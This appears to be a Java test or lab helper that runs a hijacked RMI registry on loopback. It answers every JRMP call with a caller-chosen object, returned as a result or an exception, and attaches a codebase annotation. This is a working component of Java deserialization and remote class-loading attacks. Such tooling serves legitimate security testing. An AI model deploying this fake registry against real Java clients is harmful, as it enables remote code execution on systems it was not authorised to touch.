package thiscord.rooms.attack;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.rmi.server.UID;

/** A server that speaks enough of JRMP to answer each call of a client with an object of its choice. */
final class HijackedRegistry implements AutoCloseable {
    private final ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    private final Thread thread = new Thread(this::serve, "hijacked registry");
    private final String codebase;
    private volatile Object answer = "";
    private volatile boolean exceptional;

    HijackedRegistry(String codebase) throws IOException {
        this.codebase = codebase;
        thread.start();
    }

    int port() {
        return server.getLocalPort();
    }

    /** From now on answers with that, as a result or as an exception. */
    void answers(Object with, boolean asException) {
        answer = with;
        exceptional = asException;
    }

    private void serve() {
        while (true) {
            try (Socket socket = server.accept()) {
                socket.setSoTimeout(20_000);
                converse(socket);
            } catch (SocketException ended) {
                if (server.isClosed()) {
                    return;
                }
            } catch (IOException gone) {
                // The client has what it wanted, or did not want it.
                continue;
            }
        }
    }

    private void converse(Socket socket) throws IOException {
        DataInputStream in = new DataInputStream(socket.getInputStream());
        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
        in.readNBytes(7);
        out.writeByte(0x4E);
        out.writeUTF("127.0.0.1");
        out.writeInt(0);
        in.readUTF();
        in.readInt();
        // What it asks does not matter: the answer is the same.
        while (in.read() >= 0) {
            in.skipBytes(in.available());
            out.write(reply());
            out.flush();
        }
    }

    private byte[] reply() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(0x51);
        try (ObjectOutputStream body = new RawJrmp.Annotating(bytes, codebase)) {
            body.writeByte(exceptional ? 2 : 1);
            new UID().write(body);
            body.writeObject(answer);
        }
        return bytes.toByteArray();
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
